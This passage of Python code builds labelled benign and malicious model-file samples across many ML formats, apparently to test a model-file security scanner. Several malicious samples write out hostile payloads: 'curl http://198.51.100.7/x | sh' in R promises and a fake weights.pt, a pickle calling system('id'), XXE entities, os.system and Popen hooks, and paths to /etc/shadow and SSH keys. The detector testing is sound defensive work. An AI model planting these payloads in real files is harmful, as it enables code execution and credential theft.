    yield "nested.keras", keras(model(layer("td", "TimeDistributed", layer=layer("bi", "Bidirectional", layer=layer("l", "Lambda", function=v3_lambda(EVIL)))))), m, "lambda nested", True
    yield "submodule.keras", keras(model(layer("x", "Popen", "subprocess", "Popen"))), m, "CVE-2025-1550", True
    yield "fn_module.keras", keras(model(layer("op", "Operation", "keras.src.ops.operation", None, fn_module="subprocess", fn_name="check_output"), {"name": "z", "fn_module": "os", "fn_name": "popen"})), m, "fn_module", True
    yield "ext_storage.keras", keras(model(), weights_h5(lambda h: h.message(6, struct.pack("<BBB", 1, 8, 64) + b"\x01x" + struct.pack("<H", 16) + b"\0/etc/passwd\0/x\0"))), m, "external link", False
    yield "pickle_inside.keras", keras(model(), None, [("assets/vocab.pkl", b"cposix\nsystem\n(S'id'\ntR.")]), m, "pickle inside", True
    yield "ok.h5", h5_model(model()), b, "plain", False
    yield "fixed.h5", h5_model(model(), vlen=False, training={"loss": "mse", "optimizer_config": {"class_name": "Adam", "config": {}}}), b, "plain", False
    h = H5()
    yield "data.h5", h.done(h.group([("x", h.dataset()), ("y", h.dataset())], [h.attribute("TITLE", "measurements"), h.attribute("CLASS", "GROUP")])), b, "plain", False
    yield "weights.h5", weights_h5(), b, "plain", True
    v2 = {"class_name": "Lambda", "config": {"name": "l", "function": [EVIL, None, None], "function_type": "lambda", "module": "__main__", "output_shape": None}}
    yield "lambda.h5", h5_model({"class_name": "Sequential", "config": {"layers": [v2]}}), m, "lambda", False
    yield "lambda_fixed.h5", h5_model({"class_name": "Sequential", "config": {"layers": [v2]}}, vlen=False), m, "lambda", True
    yield "lambda_training.h5", h5_model(model(), training={"loss": {"class_name": "Lambda", "config": v2["config"]}}), m, "lambda", True
    h = H5()
    yield "external_storage.h5", h.done(h.group([("w", h.dataset([h.external_file("/etc/passwd")]))], [h.attribute("keras_version", "3.1.0")])), m, "CVE-2026-1669", False
    h = H5()
    yield "external_link.h5", h.done(h.group([("w", h.dataset())], [h.external_link("k", "../../home/user/.ssh/id_rsa")])), m, "external link", False
    h = H5()
    yield "virtual.h5", h.done(h.group([("w", h.dataset(layout=h.virtual("/var/lib/secret.h5")))])), m, "virtual dataset", True


def tensorflow_cases():
    b, m = False, True
    read = [const("p", "/etc/passwd"), node("r", "ReadFile", ["p"])]
    yield "ok/saved_model.pb", saved_model(USUAL), b, "plain", False
    yield "vocab/saved_model.pb", saved_model(USUAL + [const("v", "/tmp/tmpabc/assets/vocab.txt"), node("init", "InitializeTableFromTextFileV2", ["t", "v"]), node("h", "HashTableV2")], assets=["vocab.txt"]), b, "asset", False
    yield "image/saved_model.pb", saved_model(USUAL + [node("d", "DecodeJpeg", ["x"]), node("pr", "PrintV2", ["x"], attr("output_stream", pb((2, "stderr")))), node("a", "Assert", ["x"])], [function_def("f", USUAL)]), b, "plain", True
    yield "ok/frozen.pb", graph_def(USUAL), b, "plain", False
    yield "ok/model.meta", pb((1, pb((4, "train"), (5, "1.15.0"))), (2, graph_def(USUAL)), (3, pb((1, "save/Const:0")))), b, "plain", True
    yield "read/saved_model.pb", saved_model(USUAL + read), m, "ReadFile", False
    yield "write/saved_model.pb", saved_model(USUAL + [const("p", "/root/.bashrc"), const("c", "id"), node("w", "WriteFile", ["p", "c"])]), m, "WriteFile", False
    yield "func/saved_model.pb", saved_model(USUAL, [function_def("inner", USUAL), function_def("evil", read)]), m, "in function", False
    yield "pyfunc/saved_model.pb", saved_model(USUAL + [node("p", "PyFunc", ["x"], attr("token", pb((2, "pyfunc_0"))))]), m, "PyFunc", False
    yield "eager/saved_model.pb", saved_model(USUAL + [node("p", "EagerPyFunc", ["x"])]), m, "PyFunc", True
    yield "glob/saved_model.pb", saved_model(USUAL + [const("g", "/home/*"), node("p", "MatchingFiles", ["g"])]), m, "MatchingFiles", True
    yield "debug/saved_model.pb", saved_model(USUAL + [node("d", "DebugIdentityV3", ["x"], attr("debug_urls", pb((1, pb((2, "file:///tmp/out"))))))]), m, "DebugIdentity", False
    yield "immutable/saved_model.pb", saved_model(USUAL + [node("i", "ImmutableConst", [], attr("memory_region_name", pb((2, "/etc/shadow"))))]), m, "ImmutableConst", True
    yield "print/saved_model.pb", saved_model(USUAL + [node("i", "PrintV2", ["x"], attr("output_stream", pb((2, "file:///root/.ssh/authorized_keys"))))]), m, "PrintV2", True
    yield "lines/saved_model.pb", saved_model(USUAL, [function_def("ds", [const("f", "/etc/hosts"), node("t", "TextLineDataset", ["f"])])]), m, "reader", True
    yield "shell/saved_model.pb", saved_model(USUAL + [node("s", "ShellExecute", ["x"])]), m, "shell", True
    yield "read/frozen.pb", graph_def(USUAL + read), m, "ReadFile", False
    yield "read/model.meta", pb((1, pb((4, "train"), (5, "1.15.0"))), (2, graph_def(USUAL + read)), (3, pb((1, "save/Const:0")))), m, "ReadFile", True
    obj = pb((2, 0), (3, "root"), (4, "_tf_keras_layer"), (5, json.dumps({"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__tuple__", "items": [EVIL, None, None]}, "function_type": "lambda"}, "name": "l"})))
    fine = pb((2, 0), (3, "root"), (4, "_tf_keras_model"), (5, json.dumps({"class_name": "Dense", "config": {"name": "d", "units": 3}, "name": "d"})))
    yield "ok/keras_metadata.pb", pb((1, fine)), b, "keras metadata", False
    yield "lambda/keras_metadata.pb", pb((1, fine), (1, obj)), m, "keras metadata", True
    text = 'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: "%s"\n      op: "%s"\n    }\n  }\n}\n'
    yield "ok/saved_model.pbtxt", (text % ("x", "MatMul")).encode(), b, "text", False
    yield "read/saved_model.pbtxt", (text % ("x", "ReadFile")).encode(), m, "text", False


def onnx_cases():
    b, m = False, True
    yield "ok.onnx", onnx(ONODES, [tensor("w", [1])], props=[("author", "me"), ("license", "MIT")]), b, "plain", False
    yield "external.onnx", onnx(ONODES, [tensor("w", [4], external=[("location", "model.onnx.data"), ("offset", "0"), ("length", "16")])]), b, "external", False
    yield "subdir.onnx", onnx(ONODES, [tensor("w", [4], external=[("location", "weights/part-1.bin")])]), b, "external", True
    yield "ms.onnx", onnx(ONODES + [onode("Attention", "com.microsoft")], extra=[(8, pb((1, "com.microsoft"), (2, 1)))]), b, "domain", False
    yield "custom.onnx", onnx(ONODES + [onode("RoiAlignRotated", "mmcv")]), b, "domain", True
    inner = pb((1, "then_branch"), (6, pb(onode("Relu")[0:2], (2, "sub"))), (20, 5))
    yield "if.onnx", onnx(ONODES + [onode("If", attrs=[inner])]), b, "subgraph", False
    yield "doc.onnx", onnx(ONODES, props=[("description", "This model evaluates (eval) text; see https://example.org/exec-guide")]), b, "metadata", True
    for name, path, hold in (("dotdot", "../../../etc/passwd", False), ("abs", "/etc/passwd", False), ("nested", "data/../../secret", True), ("win", "C:\\Users\\x\\ntuser.dat", True), ("url", "http://198.51.100.7/w.bin", True)):
        yield "ext_%s.onnx" % name, onnx(ONODES, [tensor("w", [4], external=[("location", path)])]), m, "external path", hold
    evil = tensor("w", [4], external=[("location", "../../etc/shadow")])
    sub = pb((1, "body"), (6, pb(onode("Add")[0:2], (5, evil), (2, "sub"))), (20, 5))
    yield "loop.onnx", onnx(ONODES + [onode("Loop", attrs=[sub])]), m, "external in subgraph", False
    yield "const_attr.onnx", onnx(ONODES + [onode("Constant", attrs=[pb((1, "value"), (5, evil), (20, 4))])]), m, "external in attribute", True
    yield "function.onnx", onnx(ONODES, functions=[pb((1, "F"), (7, onode("Constant", attrs=[pb((1, "value"), (5, evil), (20, 4))])[1]), (10, "local"))]), m, "external in function", True
    yield "python.onnx", onnx(ONODES + [onode("PythonOp", "com.microsoft")]), m, "python operator", False
    yield "pyop.onnx", onnx(ONODES + [onode("PyOp", "pyopmulti")]), m, "python operator", True
    yield "dims.onnx", onnx(ONODES, [tensor("w", [1 << 40, 1 << 40])]), m, "overflow", False


def other_cases():
    b, m = False, True
    # TFLite
    yield "ok.tflite", tflite(), b, "plain", False
    yield "detect.tflite", tflite(["TFLite_Detection_PostProcess"]), b, "plain", True
    yield "flex.tflite", tflite(["FlexErf", "FlexStridedSlice"]), b, "plain", True
    yield "flexread.tflite", tflite(["FlexReadFile"]), m, "flex", False
    yield "flexwrite.tflite", tflite(["FlexErf", "FlexWriteFile"]), m, "flex", True
    yield "shellop.tflite", tflite(["ShellExecOp"]), m, "custom op", True
    # CoreML
    yield "ok.mlmodel", coreml((500, network(pb((1, "conv"), (2, "a"), (3, "b"), (100, b""))))), b, "plain", False
    yield "tree.mlmodel", coreml((402, pb((1, pb((1, 5)))))), b, "plain", True
    yield "linked.mlmodel", coreml((556, pb((1, pb((1, pb((1, "../../Library/evil.mlmodelc"))), (2, pb((1, "/tmp")))))))), m, "linked model", False
    yield "custom_bad.mlmodel", coreml((500, network(pb((1, "c"), (500, pb((10, "NSTask/system(\"id\")"))))))), m, "custom layer", True
    # OpenVINO, PMML
    yield "ok.xml", (IR % ("", "")).encode(), b, "plain", False
    yield "ext_op.xml", (IR % ("", '<layer id="3" name="c" type="FFT" version="extension"/>')).encode(), b, "extension", True
    yield "xxe.xml", (IR % ('<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', "")).encode(), m, "xxe", False
    yield "lib.xml", (IR % ("", '<layer id="3" name="c" type="Custom" version="extension"><data library="/tmp/libevil.so"/></layer>')).encode(), m, "library", False
    yield "path.xml", (IR % ("", '<layer id="3" name="c" type="Const" version="opset1"><data path="../../../etc/passwd" offset="0" size="4"/></layer>')).encode(), m, "path", True
    yield "ok.pmml", (PMML % ("", "max", "")).encode(), b, "plain", False
    yield "ext.pmml", (PMML % ("", "max", '<Extension name="x-sas" value="created by the evaluation team"/>')).encode(), b, "extension", True
    yield "xxe.pmml", (PMML % ('<!DOCTYPE PMML [<!ENTITY % a SYSTEM "http://198.51.100.7/e.dtd"> %a;]>\n'.replace("%", "%%") % (), "max", "")).encode(), m, "xxe", False
    yield "bomb.pmml", (PMML % ('<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>\n', "max", "")).encode(), m, "entity bomb", True
    yield "script.pmml", (PMML % ("", "max", '<Extension name="script"><script>require("child_process").exec("id")</script></Extension>')).encode(), m, "script", False
    yield "runtime.pmml", (PMML % ("", "java.lang.Runtime.exec", "")).encode(), m, "function", True
    # R
    yield "lm.rds", rdata(lm), b, "plain", False
    yield "lm_raw.rds", rdata(lm, packed=False), b, "plain", True
    yield "ws.RData", rdata(lambda r: r.pairs(("model", lm(r)), ("x", r.reals(1, 2, 3))), True), b, "plain", False
    yield "env.rds", rdata(lambda r: r.vec([r.env(r.pairs(("n", r.reals(3.0)), ("p", r.promise(r.sym("x"), r.reals(1.0)))))])), b, "evaluated promise", True
    evil = lambda r: r.promise(r.lang("system", r.strs("curl http://198.51.100.7/x | sh")))  # noqa: E731
    yield "promise.rds", rdata(evil), m, "CVE-2024-27322", False
    yield "promise_list.RData", rdata(lambda r: r.pairs(("model", lm(r)), ("y", evil(r))), True), m, "CVE-2024-27322", False
    yield "promise_eval.rds", rdata(lambda r: r.promise(r.lang("eval", r.lang("parse", r.strs("x"))))), m, "CVE-2024-27322", True
    yield "promise_ns.rds", rdata(lambda r: r.env(r.pairs(("z", r.promise(r.lang(r.lang("::", r.sym("base"), r.sym("system2")), r.strs("id"))))))), m, "CVE-2024-27322", True
    yield "first.RData", rdata(lambda r: r.pairs((".First", r.closure(r.lang("{", r.lang("system", r.strs("id")))))), True), m, "hook", True
    yield "call.rds", rdata(lambda r: r.vec([r.lang("download.file", r.strs("http://198.51.100.7/x"), r.strs("/tmp/x"))])), m, "call", True
    # skops
    bad = json.loads(json.dumps(SKOPS))
    bad["content"]["content"]["C"] = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}
    yield "ok.skops", skops(SKOPS), b, "plain", False
    yield "os.skops", skops(bad), m, "type", False
    bad2 = json.loads(json.dumps(SKOPS))
    bad2["content"]["content"]["C"] = {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode", "content": {}}
    yield "popen.skops", skops(bad2), m, "type", True
    # programs
    yield "ok.llamafile", ape([("model.gguf", gguf(LLM + [kv("tokenizer.chat_template", templates.CHATML)], [("a", [16], 0, 0)], weights(64))), (".args", "-m\nmodel.gguf\n")]), b, "llamafile", False
    yield "template.llamafile", ape([("model.gguf", gguf(LLM + [kv("tokenizer.chat_template", templates.HOSTILE["cycler"])], [("a", [16], 0, 0)], weights(64)))]), m, "llamafile", True
    yield "model.bin", b"\x7fELF\2\1\1\0" + weights(4000), m, "disguised program", False
    yield "weights.pt", b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n", m, "disguised program", True
    # data
    yield "xgb.json", json.dumps({"learner": {"attributes": {}, "feature_names": [], "gradient_booster": {"model": {"trees": []}, "name": "gbtree"}, "learner_model_param": {}}, "version": [2, 0, 3]}).encode(), b, "data", False
    yield "lgb.txt", b"tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nobjective=binary sigmoid:1\nfeature_names=a b\n\nTree=0\nnum_leaves=2\n", b, "data", False
    yield "cat.cbm", b"CBM1" + struct.pack("<I", 64) + weights(64), b, "data", True
    yield "mx.params", struct.pack("<QQQ", 0x112, 0, 1) + weights(64), b, "data", True
    var = pb((1, "w"), (2, pb((1, 7))))
    op = lambda kind: pb((1, pb((1, "X"), (2, "x"))), (3, kind))  # noqa: E731
    yield "ok.pdmodel", pb((1, pb((1, 0), (2, 0), (3, var), (4, op("matmul_v2")), (4, op("relu"))))), b, "data", False
    yield "py.pdmodel", pb((1, pb((1, 0), (2, 0), (3, var), (4, op("py_func"))))), m, "python operator", True
    yield "torch.t7", struct.pack("<iii", 4, 1, 3) + b"V 1" + struct.pack("<i", 13) + b"nn.Sequential" + weights(64).replace(b"\x1b", b"."), b, "data", False
    yield "lua.t7", struct.pack("<iii", 4, 1, 3) + b"V 1" + struct.pack("<i", 13) + b"nn.Sequential" + b"\x1bLJ\1\0" + b"\2os\7execute\3id\0" + b"\0" * 32, m, "lua", False
    yield "old.ggml", b"tjgg" + struct.pack("<8I", 3, 32000, 4096, 256, 32, 32, 128, 2) + weights(200), b, "data", True


def config_cases():
    b, m = False, True
    base = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "torch_dtype": "bfloat16", "transformers_version": "4.44.0"}
    yield "c_ok/config.json", json.dumps(base).encode(), b, "config", False
    yield "c_auto/config.json", json.dumps({**base, "auto_map": {"AutoModelForCausalLM": "modeling_x.XForCausalLM"}}).encode(), b, "auto_map", False
    yield "c_adapter/adapter_config.json", json.dumps({"base_model_name_or_path": "org/base", "peft_type": "LORA", "r": 8}).encode(), b, "config", False
    yield "c_sd/model_index.json", json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.29.0", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [None, None]}).encode(), b, "config", False
    yield "c_st/modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]).encode(), b, "config", True
    nemo = "cfg:\n  _target_: nemo.collections.asr.models.EncDecCTCModelBPE\n  optim:\n    _target_: torch.optim.AdamW\n    lr: 0.001\n  preprocessor:\n    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n"
    yield "c_nemo/model_config.yaml", nemo.encode(), b, "hydra", False
    yield "c_card/README.md", b"---\nlicense: apache-2.0\nbase_model: org/base\ndatasets:\n- org/d1\n---\n# Card\nRun os.system('x') never.\n", b, "card", False
    yield "c_target/model_config.yaml", (nemo + "  callback:\n    - _target_: os.system\n      command: id\n").encode(), m, "hydra", False
    yield "c_target2/config.yaml", b"model:\n  a:\n    b:\n      c:\n        _target_: builtins.exec\n        _args_: ['import os']\n", m, "hydra", True
    yield "c_target3/conf.yaml", b"x:\n  _target_: subprocess.Popen\n  args: [id]\n", m, "hydra", True
    yield "c_pipe/model_index.json", json.dumps({"_class_name": "X", "_diffusers_version": "0.29.0", "unet": ["subprocess", "Popen"]}).encode(), m, "pipeline class", True


def cases():
    """As generate.py wants them."""
    for name, data, malicious, kind, holdout in tuples():
        folder = "formats/" + ("m" if malicious else "b") + "/"
        yield {"name": folder + name, "data": data, "label": "malicious" if malicious else "benign", "kind": "format: " + kind, "holdout": holdout}
